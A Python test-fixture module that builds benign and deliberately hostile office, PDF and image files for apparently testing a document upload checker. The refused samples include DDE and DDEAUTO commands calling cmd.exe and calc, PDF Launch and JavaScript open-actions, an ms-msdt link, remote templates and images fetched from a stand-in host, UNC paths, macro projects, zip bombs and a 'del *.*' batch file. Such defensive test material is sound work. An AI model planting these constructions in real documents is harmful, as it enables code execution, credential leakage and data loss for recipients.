"""Files that only show, and files that could act, each made for one reason."""

import io
import zipfile
import zlib
from collections.abc import Callable
from typing import Any

import docx
import openpyxl
import typst
from openpyxl.chart import BarChart, Reference
from openpyxl.comments import Comment
from openpyxl.worksheet.datavalidation import DataValidation
from pypdf import PdfReader, PdfWriter
from pypdf.generic import ArrayObject, DictionaryObject, NameObject, TextStringObject

import hostile_
from hostile_ import zipped

MACRO = "application/vnd.ms-office.vbaProject"
RELATED = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600)


def changed(raw: bytes, parts: dict[str, bytes | str | Callable[[bytes], bytes]]) -> bytes:
    """A packed file with parts that are added, replaced, or made of what they were."""
    with zipfile.ZipFile(io.BytesIO(raw)) as package:
        held: dict[str, bytes | str] = {name: package.read(name) for name in package.namelist()}
    for name, part in parts.items():
        held[name] = part(bytes(held[name])) if callable(part) else part  # type: ignore[arg-type]
    return zipped(held)


def before(end: str, text: str) -> Callable[[bytes], bytes]:
    return lambda raw: raw.replace(end.encode(), text.encode() + end.encode(), 1)


def saved(made: Any) -> bytes:
    out = io.BytesIO()
    made.save(out)
    return out.getvalue()


def word() -> bytes:
    made = docx.Document()
    made.add_heading("Plan")
    made.add_table(2, 2)
    made.add_picture(io.BytesIO(picture()))
    return saved(made)


def sheet() -> bytes:
    made = openpyxl.Workbook()
    page: Any = made.active
    page["A1"], page["A2"] = 3, "=A1*2"
    page["A1"].hyperlink, page["A1"].comment = "https://school.example/", Comment("zie plan", "ib")
    chart = BarChart()
    chart.add_data(Reference(page, 1, 1, 1, 2))
    page.add_chart(chart, "D3")
    return saved(made)


def open_document(kind: str = "text", parts: dict[str, bytes | str] | None = None, content: str = "") -> bytes:
    space = 'xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" xmlns:xlink="http://www.w3.org/1999/xlink"'
    more = 'xmlns:text="t" xmlns:draw="d" xmlns:script="s" xmlns:table="b"'
    return zipped(
        {
            "mimetype": f"application/vnd.oasis.opendocument.{kind}",
            "content.xml": f"<office:document-content {space} {more}><office:body>{content}</office:body></office:document-content>",
            "META-INF/manifest.xml": "<manifest/>",
            "Thumbnails/thumbnail.png": picture(),
            "Configurations2/accelerator/current.xml": "",
        }
        | (parts or {})
    )


def picture(form: str = "png") -> bytes:
    return bytes(typst.compile(b"#set page(width: 3cm, height: 3cm)\nx", format=form))  # type: ignore[call-overload]


def pages() -> bytes:
    return bytes(typst.compile(b'#set document(title: "Plan")\n= Plan\n#link("https://school.example/")[school]'))


def written(change: Callable[[PdfWriter], object]) -> bytes:
    writer = PdfWriter(clone_from=PdfReader(io.BytesIO(pages())))
    change(writer)
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def opening(kind: str, **more: str) -> bytes:
    """A PDF that does something when it is opened."""
    action = DictionaryObject({NameObject("/S"): NameObject(f"/{kind}"), NameObject("/D"): ArrayObject([])})
    action.update({NameObject(f"/{name}"): TextStringObject(said) for name, said in more.items()})
    return written(lambda writer: writer.root_object.update({NameObject("/OpenAction"): writer._add_object(action)}))


def in_stream(body: bytes, way: bytes = b"/Filter/FlateDecode", about: bytes = b"/Type/ObjStm/N 1/First 4") -> bytes:
    """A PDF whose objects are packed in a stream."""
    packed = zlib.compress(body)
    return (
        b"%PDF-1.7\n1 0 obj<</Type/Catalog/OpenAction 9 0 R>>endobj\n5 0 obj<<" + about + way
        + b"/Length %d>>stream\n" % len(packed) + packed + b"\nendstream endobj\ntrailer<</Root 1 0 R>>\n%%EOF"
    )  # fmt: skip


def opens(value: str, more: str = "", name: str = "OpenAction") -> bytes:
    """A PDF as somebody writes it by hand who wants something to be done when it is opened."""
    return f"%PDF-1.7\n1 0 obj<</Type/Catalog/{name} {value}>>endobj\n{more}\ntrailer<</Root 1 0 R>>\n%%EOF".encode()


def with_relation(raw: bytes, part: str, kind: str, target: str, mode: str = "External") -> bytes:
    relation = f'<Relationship Id="rX" Type="{RELATED}/{kind}" Target="{target}" TargetMode="{mode}"/>'
    return changed(raw, {part: before("</Relationships>", relation)})


def with_part(raw: bytes, name: str, kind: str, content: bytes | str) -> bytes:
    declared = f'<Override PartName="/{name}" ContentType="{kind}"/>'
    return changed(raw, {name: content, "[Content_Types].xml": before("</Types>", declared)})


def field(*codes: str) -> bytes:
    runs = "".join(f"<w:r><w:instrText>{code}</w:instrText></w:r>" for code in codes)
    begin, end = (f'<w:r><w:fldChar w:fldCharType="{kind}"/></w:r>' for kind in ("begin", "end"))
    return hostile_.word(f"<w:p>{begin}{runs}{end}</w:p>")


WORD_RELATIONS = "word/_rels/document.xml.rels"
SHEET_TYPE = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
WORD = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
SHEET = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"


def cell(formula: str) -> bytes:
    """A sheet with one formula, as it stands in the file."""
    text = formula.replace("&", "&amp;").replace("<", "&lt;")
    return changed(
        sheet(),
        {
            "xl/worksheets/sheet1.xml": f'<worksheet xmlns="{SHEET}"><sheetData><row r="1"><c r="A1"><f>{text}</f></c></row></sheetData></worksheet>'
        },
    )


def reckoned(formula: str) -> bytes:
    """The same as LibreOffice writes it."""
    text = formula.replace('"', "&quot;")
    space = "urn:oasis:names:tc:opendocument:xmlns:table:1.0"
    return open_document("spreadsheet", content=f'<t:table-cell xmlns:t="{space}" t:formula="{text}"/>')


def body(text: str) -> bytes:
    """A text of Word with namespaces of all that may stand in one."""
    spaces = (
        'xmlns:v="urn:schemas-microsoft-com:vml" xmlns:o="urn:schemas-microsoft-com:office:office" xmlns:x="urn:elsewhere" '
        f'xmlns:mc="http://schemas.openxmlformats.org/markup-compatibility/2006" xmlns:r="{RELATED}"'
    )
    return hostile_.word(f"<w:p {spaces}>{text}</w:p>")


def code(*parts: str) -> str:
    """A field of Word: its code in runs, or what stands between them when it is an element."""
    runs = "".join(one if one.startswith("<") else f"<w:r><w:instrText>{one}</w:instrText></w:r>" for one in parts)
    begin, middle, end = (f'<w:r><w:fldChar w:fldCharType="{kind}"/></w:r>' for kind in ("begin", "separate", "end"))
    return f"{begin}{runs}{middle}<w:r><w:t>1</w:t></w:r>{end}"


def settings_of(text: str) -> bytes:
    return changed(word(), {"word/settings.xml": f'<w:settings xmlns:w="{WORD}">{text}</w:settings>'})


def everyday_sheet() -> bytes:
    """Sums, a list to choose from, a sheet of another name, a link, a table, and what Google leaves in it."""
    made = openpyxl.Workbook()
    page: Any = made.active
    page.title = "Uren '25 (concept)"
    rows = ("=SUM(B1:B9)", "=IF(B1>3,\"ja|nee\",\"\")", "=VLOOKUP(B1,'Uren ''25 (concept)'!B1:C9,2,FALSE)", "=_xlfn.XLOOKUP(B1,B1:B9,C1:C9)",
            '=HYPERLINK("https://school.example/plan","plan")', "=SUM(Uren[Aantal (u)])", "=-A1+3%", "=TODAY()")  # fmt: skip
    for n, formula in enumerate(rows, 1):
        page.cell(n, 1, formula)
    chosen = DataValidation("list", formula1='"ja,nee"')
    page.add_data_validation(chosen)
    chosen.add("D1:D9")
    google = '<Relationship Id="rG" Type="http://customschemas.google.com/relationships/workbookmetadata" Target="metadata"/>'
    declared = '<Override PartName="/xl/metadata" ContentType="application/binary"/>'
    return changed(saved(made), {"xl/metadata": b"\x0a\x02", "xl/_rels/workbook.xml.rels": before("</Relationships>", google),
                                 "[Content_Types].xml": before("</Types>", declared)})  # fmt: skip


def everyday_text() -> bytes:
    """A text of LibreOffice with a chart, made from a template."""
    space = 'xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" xmlns:xlink="http://www.w3.org/1999/xlink" xmlns:meta="m" xmlns:chart="c"'
    parts: dict[str, bytes | str] = {
        "Pictures/100.png": picture(), "Pictures/200.svg": picture("svg"), "ObjectReplacements/Object 1": picture(),
        "Object 1/content.xml": f'<office:document-content {space}><chart:chart xlink:href=".."/></office:document-content>',
        "Object 1/styles.xml": f"<office:document-styles {space}/>",
        "meta.xml": f'<office:document-meta {space}><meta:template xlink:href="../../sjablonen/brief.ott"/></office:document-meta>',
        "settings.xml": f"<office:document-settings {space}/>", "manifest.rdf": "<rdf/>", "layout-cache": b"\1",
        "Configurations2/images/Bitmaps/": b"", "Configurations2/toolbar/": b"",
    }  # fmt: skip
    shown = (
        '<office:scripts/><draw:object xlink:href="./Object 1"/><draw:image xlink:href="./ObjectReplacements/Object 1"/>'
        '<draw:image xlink:href="Pictures/100.png"/><text:a xlink:href="mailto:ib@school.example"/><text:a xlink:href="#kop"/>'
    )
    return open_document(parts=parts, content=shown)


ALTERNATE = "<mc:AlternateContent><mc:Choice>{}</mc:Choice><mc:Fallback>{}</mc:Fallback></mc:AlternateContent>"
RUN = "<w:r><w:instrText>{}</w:instrText></w:r>"
TAKEN: dict[str, Callable[[], bytes]] = {
    "plan.docx": word,
    "met-grafiek.docx": lambda: with_part(word(), "word/embeddings/Microsoft_Excel_Sheet1.xlsx", SHEET_TYPE, sheet()),
    "link.docx": lambda: with_relation(word(), WORD_RELATIONS, "hyperlink", "https://school.example/"),
    "veld.docx": lambda: field("PAGE ", " \\* MERGEFORMAT"),
    "inhoud.docx": lambda: body(code('TOC \\o "1-3" \\h') + code("PAGEREF _Toc1 \\h") + code("IF ", code("PAGE"), " = 2 a b") + code("= ", code("PAGE"), " - 1")),
    "verwijst.docx": lambda: body(code('HYPERLINK "https://school.example/plan" \\o "Zie: plan"') + code('HYPERLINK \\l "kop"')),
    "tekstvak.docx": lambda: body("<w:r>" + ALTERNATE.format(f"<w:p>{code('PAGE')}</w:p>", f"<v:textbox><w:p>{code('PAGE')}</w:p></v:textbox>") + "</w:r>"),
    "tekening.docx": lambda: with_part(word(), "word/media/a.svg", "image/svg+xml", picture("svg")),
    "uren.xlsx": sheet,
    "alledaags.xlsx": everyday_sheet,
    "alledaags.odt": everyday_text,
    "som.ods": lambda: reckoned("of:=SUM([.A1:.A9])+COM.MICROSOFT.CONCAT([$'Blad 2'.A1];\"|\")"),
    "plan.odt": lambda: open_document(content='<text:a xlink:href="https://school.example/"/><draw:image xlink:href="Thumbnails/thumbnail.png"/>'),
    "uren.ods": lambda: open_document("spreadsheet"),
    "avond.odp": lambda: open_document("presentation"),
    "plan.pdf": pages,
    "bladwijzers.pdf": lambda: written(lambda writer: writer.add_outline_item(title="Kop", page_number=0)),
    "lettertype.pdf": lambda: pages().replace(b"/Type/Pages", b"/X/Arial#20Vet/Type/Pages"),
    "verwijst.pdf": lambda: pages() + b"7 0 obj<</S/URI/URI(www.school.example/a\\(b\\))>>endobj",
    "blad.pdf": lambda: pages().replace(b"/Type/Catalog", b"/OpenAction[1 0 R/XYZ null null 0]/Type/Catalog"),
    "begin.pdf": lambda: opening("GoTo"),
    "gepakt.pdf": lambda: in_stream(b"9 0 <</S/GoTo/D[1 0 R]>>"),
    "foto.png": picture,
    "foto.gif": lambda: b"GIF89a\x01\0\x01\0\x80\0\0\0\0\0\xff\xff\xff,\0\0\0\0\x01\0\x01\0\0\x02\x02D\x01\0;",
    "foto.webp": lambda: b"RIFF\x1a\0\0\0WEBPVP8L\x0d\0\0\0/\0\0\0\x10\x07\x10\x11\x11\x88\x88\xfe\x07\0",
    "verslag.txt": lambda: "\ufeffWij lezen élke dag: 3 < 4, en 4 > 3.\r\n".encode("utf-8"),
    "oud.txt": lambda: "Zo doen wij het ook in België.".encode("cp1252"),
}  # fmt: skip
REFUSED: dict[str, tuple[Callable[[], bytes], str]] = {
    "vba.docx": (lambda: with_part(word(), "word/vbaProject.bin", MACRO, OLE), "macros"),
    "naam.docx": (lambda: with_part(word(), "word/x.bin", MACRO, OLE), "macros"),
    "docm.docx": (lambda: changed(word(), {"[Content_Types].xml": lambda raw: raw.replace(b"vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml", b"vnd.ms-word.document.macroEnabled.main+xml")}), "macros"),
    "sjabloon.docx": (lambda: with_relation(word(), WORD_RELATIONS, "attachedTemplate", "http://x.example/a.dotm"), "fetches"),
    "schijf.docx": (lambda: with_relation(word(), WORD_RELATIONS, "attachedTemplate", "file:///\\\\x.example\\a.dotm"), "fetches"),
    "plaatje.docx": (lambda: with_relation(word(), WORD_RELATIONS, "image", "https://x.example/volg.png"), "fetches"),
    "link.docx": (lambda: with_relation(word(), WORD_RELATIONS, "hyperlink", "ms-msdt:/id PCWDiagnostic"), "fetches"),
    "unc.docx": (lambda: with_relation(word(), WORD_RELATIONS, "hyperlink", "\\\\x.example\\a"), "fetches"),
    "ole.docx": (lambda: with_part(word(), "word/embeddings/oleObject1.bin", "application/vnd.openxmlformats-officedocument.oleObject", OLE), "another programme"),
    "verstopt.docx": (lambda: with_part(word(), "word/media/a.png", "image/png", OLE), "another programme"),
    "html.docx": (lambda: with_relation(word(), WORD_RELATIONS, "aFChunk", "/word/a.html", "Internal"), "another programme"),
    "activex.docx": (lambda: with_part(word(), "word/activeX/activeX1.xml", "application/vnd.ms-office.activeX+xml", "<a/>"), "another programme"),
    "onbekend.docx": (lambda: changed(word(), {"word/a.exe": b"MZ"}), "another programme"),
    "macro-in-grafiek.docx": (lambda: with_part(word(), "word/embeddings/a.xlsx", SHEET_TYPE, with_part(sheet(), "xl/vbaProject.bin", MACRO, OLE)), "macros"),
    "dde.docx": (lambda: field("DDEAUTO c:\\\\windows\\\\cmd.exe"), "fetches"),
    "dde-in-stukken.docx": (lambda: field("D", "DEAU", "TO c:\\\\x"), "fetches"),
    "dde-gespeld.docx": (lambda: field("QUOTE 68 68 69 65 85 84 79"), "fetches"),
    "dde-eenvoudig.docx": (lambda: hostile_.word('<w:p><w:fldSimple w:instr=" DDE x y "/></w:p>'), "fetches"),
    "xlm.xlsx": (lambda: with_part(sheet(), "xl/macrosheets/sheet1.xml", "application/vnd.ms-excel.macrosheet+xml", "<a/>"), "macros"),
    "xlm-vermomd.xlsx": (lambda: changed(sheet(), {"xl/worksheets/sheet1.xml": '<xm:macrosheet xmlns:xm="http://schemas.microsoft.com/office/excel/2006/main"/>'}), "macros"),
    "extern.xlsx": (lambda: with_relation(sheet(), "xl/_rels/workbook.xml.rels", "externalLink", "externalLinks/externalLink1.xml", "Internal"), "fetches"),
    "tweemaal.docx": (lambda: word().replace(b"[Content_Types].xml", b"word/document.xml\0\0") , "not taken"),
    "basic.odt": (lambda: open_document(parts={"Basic/Standard/Module1.xml": "<a/>"}), "macros"),
    "python.ods": (lambda: open_document("spreadsheet", {"Scripts/python/a.py": "x"}), "macros"),
    "gebeurtenis.odt": (lambda: open_document(content='<script:event-listener xlink:href="vnd.sun.star.script:a"/>'), "macros"),
    "ole.odt": (lambda: open_document(parts={"Object 1": OLE}), "another programme"),
    "deel.odt": (lambda: open_document(content='<text:section-source xlink:href="https://x.example/a.odt"/>'), "fetches"),
    "beeld.odt": (lambda: open_document(content='<draw:image xlink:href="https://x.example/a.png"/>'), "fetches"),
    "script.odt": (lambda: open_document(content='<text:a xlink:href="vnd.sun.star.script:a"/>'), "fetches"),
    "bom.odt": (lambda: zipped({"mimetype": b"a" * 190_000_000, "content.xml": "<a/>"}), "unpacks to more"),
    "bom.docx": (lambda: changed(word(), {"word/media/image1.png": bytes(210_000_000)}), "unpacks to more"),
    "openen.pdf": (lambda: opening("JavaScript", JS="app.alert(1)"), "more than show"),
    "gecodeerd.pdf": (lambda: opening("JavaScript", JS="app.alert(1)").replace(b"/JavaScript", b"/J#61vaScript"), "more than show"),
    "start.pdf": (lambda: opening("Launch", F="cmd.exe"), "more than show"),
    "adres.pdf": (lambda: opening("URI", URI="https://x.example/"), "more than show"),
    "verder.pdf": (lambda: opening("GoToR", F="\\\\x.example\\a.pdf"), "more than show"),
    "bijlage.pdf": (lambda: written(lambda writer: writer.add_attachment("a.exe", b"MZ")), "another file"),
    "slot.pdf": (lambda: written(lambda writer: writer.encrypt("", "eigenaar")), "locked"),
    "stroom.pdf": (lambda: in_stream(b"9 0 <</S/JavaScript/JS(app.alert(1))>>"), "more than show"),
    "stroom-adres.pdf": (lambda: in_stream(b"9 0 <</S/URI/URI(https://x.example/)>>"), "more than show"),
    "stroom-anders.pdf": (lambda: in_stream(b"9 0 <<>>", b"/Filter[/ASCIIHexDecode/FlateDecode]"), "cannot look into"),
    "stroom-verschoven.pdf": (lambda: in_stream(b"9 0 <<>>", b"/Filter/FlateDecode/DecodeParms<</Predictor 12>>"), "cannot look into"),
    "stroom-verzwegen.pdf": (lambda: in_stream(b"9 0 <</S/Launch/F(cmd)>>", about=b"/Type/Metadata"), "more than show"),
    "bom.pdf": (lambda: in_stream(b"9 0 " + bytes(200_000_000)), "unpacks to more"),
    "commentaar.pdf": (lambda: opens("%c\n<</S/URI/URI(https://x.example/)>>"), "more than show"),
    "gecodeerde-naam.pdf": (lambda: opens("<</S/URI/URI(https://x.example/)>>", name="Open#41ction"), "more than show"),
    "daarna.pdf": (lambda: opens("4 0 R", "4 0 obj<</S/GoTo/D[1 0 R]/Next 5 0 R>>endobj 5 0 obj<</S/URI/URI(https://x.example/)>>endobj"), "more than show"),
    "herzien.pdf": (lambda: opens("4 0 R", "4 0 obj[1 0 R/Fit]endobj\n4 0 obj<</S/URI/URI(https://x.example/)>>endobj"), "more than show"),
    "weg.pdf": (lambda: opens("4 0 R"), "cannot look into"),
    "drukt.pdf": (lambda: opens("<</S/Named/N/Print>>"), "more than show"),
    "bladzijde.pdf": (lambda: pages().replace(b"/Type/Catalog", b"/AA<</O<</S/URI/URI(https://x.example/)>>>>/Type/Catalog"), "more than show"),
    "bladzijde-verwijst.pdf": (lambda: pages().replace(b"/Type/Catalog", b"/A#41 %c\n 9 0 R/Type/Catalog"), "more than show"),
    "stroom-spatie.pdf": (lambda: in_stream(b"9 0 <</S/JavaScript/JS(app.alert(1))>>").replace(b">>stream\n", b">>stream \t\n"), "more than show"),
    "stroom-commentaar.pdf": (lambda: in_stream(b"9 0 <<>>").replace(b">>stream\n", b">>%c\nstream\n"), "cannot look into"),
    "stroom-tekst.pdf": (lambda: in_stream(b"9 0 <<>>", way=b"/X( obj)/Filter/LZWDecode"), "cannot look into"),
    "stroom-half.pdf": (lambda: in_stream(b"9 0 " + bytes(range(256)) * 40).replace(b"\nendstream", b"")[:-60] + b"\ntrailer<</Root 1 0 R>>\n%%EOF", "cannot look into"),
    "schijf.pdf": (lambda: pages().replace(b"(https://school", b"(file://\\\\school"), "more than show"),
    "schijf-octaal.pdf": (lambda: pages().replace(b"(https://school", b"(\\146ile://school"), "more than show"),
    "van-elders.pdf": (lambda: pages() + b"9 0 obj<</FS/URL/F(https://x.example/)>>endobj", "more than show"),
    "veldplaatje.docx": (lambda: body(code('INCLUDEPICTURE "\\\\x.example\\a.png" \\d')), "fetches"),
    "veld-onbekend.docx": (lambda: body(code("MACROBUTTON AutoOpen klik")), "fetches"),
    "veld-in-veld.docx": (lambda: body(code(code("REF a"), " c:\\x")), "fetches"),
    "veld-half.docx": (lambda: body(code("DA", code("REF a"), " c:\\x")), "fetches"),
    "veld-verwijst.docx": (lambda: body(code('HYPERLINK "\\\\x.example\\a"')), "fetches"),
    "veld-open.docx": (lambda: body(code("DDEAUTO x").rpartition("<w:r><w:fldChar")[0]), "fetches"),
    "veld-keuze.docx": (lambda: body(code(ALTERNATE.format(RUN.format("PAGE "), RUN.format("DDEAUTO x")))), "fetches"),
    "veld-genegeerd.docx": (lambda: body(code(f"<x:weg>{RUN.format('PAGE ')}</x:weg>", "DDEAUTO x")), "fetches"),
    "vml.docx": (lambda: body('<w:r><w:pict><v:shape><v:imagedata src="http://x.example/a.png"/></v:shape></w:pict></w:r>'), "fetches"),
    "vml-vulling.docx": (lambda: body('<w:r><w:pict><v:rect><v:fill o:href="http://x.example/a.png"/></v:rect></w:pict></w:r>'), "fetches"),
    "ole-vml.docx": (lambda: body('<w:r><w:object><o:OLEObject Type="Link" r:id="r1"/></w:object></w:r>'), "another programme"),
    "onderdeel.docx": (lambda: body('<w:subDoc r:id="r1"/>'), "fetches"),
    "plaatje-zonder.docx": (lambda: with_relation(word(), WORD_RELATIONS, "image", "http://x.example/a.png", ""), "fetches"),
    "plaatje-pad.docx": (lambda: with_relation(word(), WORD_RELATIONS, "image", "\\\\x.example\\a.png", "Internal"), "fetches"),
    "plaatje-schijf.docx": (lambda: with_relation(word(), WORD_RELATIONS, "image", "../../../a.png", "Internal"), "fetches"),
    "link-schijf.docx": (lambda: with_relation(word(), WORD_RELATIONS, "hyperlink", "file:///c:/a.exe"), "fetches"),
    "soort-onbekend.docx": (lambda: with_relation(word(), WORD_RELATIONS, "nieuwigheid", "document.xml", "Internal"), "another programme"),
    "rondzenden.docx": (lambda: settings_of('<w:mailMerge><w:connectString w:val="Provider=x"/></w:mailMerge>'), "fetches"),
    "knop.pptx": (lambda: with_part(word(), "ppt/slides/a.xml", "application/vnd.openxmlformats-officedocument.presentationml.slide+xml", '<hlinkClick action="ppaction://hlinkfile"/>'), "another programme"),
    "verbinding.xlsx": (lambda: with_part(sheet(), "xl/connections.xml", "application/vnd.openxmlformats-officedocument.spreadsheetml.connections+xml", f'<connections xmlns="{SHEET}"/>'), "another programme"),
    "verbinding-vermomd.xlsx": (lambda: with_relation(changed(sheet(), {"xl/a.xml": f'<connections xmlns="{SHEET}"/>'}), "xl/_rels/workbook.xml.rels", "connections", "a.xml", "Internal"), "another programme"),
    "web.xlsx": (lambda: cell('_xlfn.WEBSERVICE("https://x.example/"&A2)'), "fetches"),
    "beeld.xlsx": (lambda: cell('_xlfn.IMAGE("https://x.example/a")'), "fetches"),
    "dde.xlsx": (lambda: cell("cmd|'/c calc'!A0"), "fetches"),
    "dde-spatie.xlsx": (lambda: cell("1+cmd |x!A0"), "fetches"),
    "roept.xlsx": (lambda: cell('IF(TRUE,CALL ("a","b"))'), "fetches"),
    "rtd.xlsx": (lambda: cell('RTD("a",,"b")'), "fetches"),
    "map.xlsx": (lambda: cell("'\\\\x.example\\[a.xlsx]b'!A1"), "fetches"),
    "link-map.xlsx": (lambda: cell('HYPERLINK("\\\\x.example\\a","plan")'), "fetches"),
    "naam.xlsx": (lambda: changed(sheet(), {"xl/workbook.xml": before("</workbook>", f'<definedNames xmlns="{SHEET}"><definedName name="a">EXEC("calc")</definedName></definedNames>')}), "fetches"),
    "keuzelijst.xlsx": (lambda: changed(sheet(), {"xl/worksheets/sheet1.xml": before("</worksheet>", f'<formula1 xmlns="{SHEET}">FILTERXML(A1,A2)</formula1>')}), "fetches"),
    "spatie.odt": (lambda: open_document(content='<draw:image xlink:href=" https://x.example/a.png"/>'), "fetches"),
    "schijf.odt": (lambda: open_document(content='<draw:image xlink:href="/etc/passwd"/>'), "fetches"),
    "erbuiten.odt": (lambda: open_document(content='<draw:image xlink:href="../a.png"/>'), "fetches"),
    "verwijst.odt": (lambda: open_document(content='<text:a xlink:href="file:///c:/a.exe"/>'), "fetches"),
    "herlaadt.odt": (lambda: open_document(parts={"meta.xml": '<m xmlns:meta="a"><meta:auto-reload/></m>'}), "fetches"),
    "sjabloon.odt": (lambda: open_document(parts={"meta.xml": '<m xmlns:meta="a" xmlns:xlink="http://www.w3.org/1999/xlink"><meta:template xlink:href="https://x.example/a.ott"/></m>'}), "fetches"),
    "deel-object.odt": (lambda: open_document(parts={"Object 1/settings.xml": '<m xmlns:x="http://www.w3.org/1999/xlink" x:href="//x.example/a"/>'}), "fetches"),
    "toetsen.odt": (lambda: open_document(parts={"Configurations2/accelerator/current.xml": '<a:acceleratorlist xmlns:a="b"><a:item/></a:acceleratorlist>'}), "macros"),
    "tekening.odt": (lambda: open_document(parts={"Pictures/a.svg": '<svg xmlns="http://www.w3.org/2000/svg"><script/></svg>'}), "macros"),
    "tekening-elders.odt": (lambda: open_document(parts={"Pictures/a.svg": '<svg xmlns="http://www.w3.org/2000/svg"><image href="https://x.example/a"/></svg>'}), "fetches"),
    "onbekend.odt": (lambda: open_document(parts={"Versions/Version1.xml": "<a/>"}), "another programme"),
    "gegevens.odt": (lambda: open_document(content='<text:database-display/>'), "fetches"),
    "web.ods": (lambda: reckoned('of:=WEBSERVICE("https://x.example/")'), "fetches"),
    "dde.ods": (lambda: reckoned('of:=DDE("soffice";"a";"b")'), "fetches"),
    "map.ods": (lambda: reckoned("of:=['file:///c:/a.ods'#$Blad1.A1]"), "fetches"),
    "excel.ods": (lambda: reckoned("msoxl:=cmd|'/c calc'!A0"), "fetches"),
    "snel.txt": (lambda: b"[InternetShortcut]\r\nURL=file://x.example/a\r\n", "not taken"),
    "toepassing.hta": (lambda: b"<html><hta:application><script>1</script>", "not taken"),
    "toepassing.txt": (lambda: b"aardig <script>1</script>", "not taken"),
    "snel.lnk": (lambda: b"L\0\0\0\x01\x14\x02\0" + bytes(100), "not taken"),
    "blad.html": (lambda: b"<p>x", "not taken"),
    "teken.svg": (lambda: picture("svg"), "not taken"),
    "opdracht.bat": (lambda: b"del *.*", "not taken"),
    "kaal.pdf": (lambda: b"%PDF-1.7 <script>", "not taken"),
    "half.png": (lambda: picture()[:60], "not taken"),
    "oud.doc": (lambda: OLE, "not taken"),
    "wiki.zip": (lambda: zipped({"a.txt": "x"}), "not taken"),
}  # fmt: skip
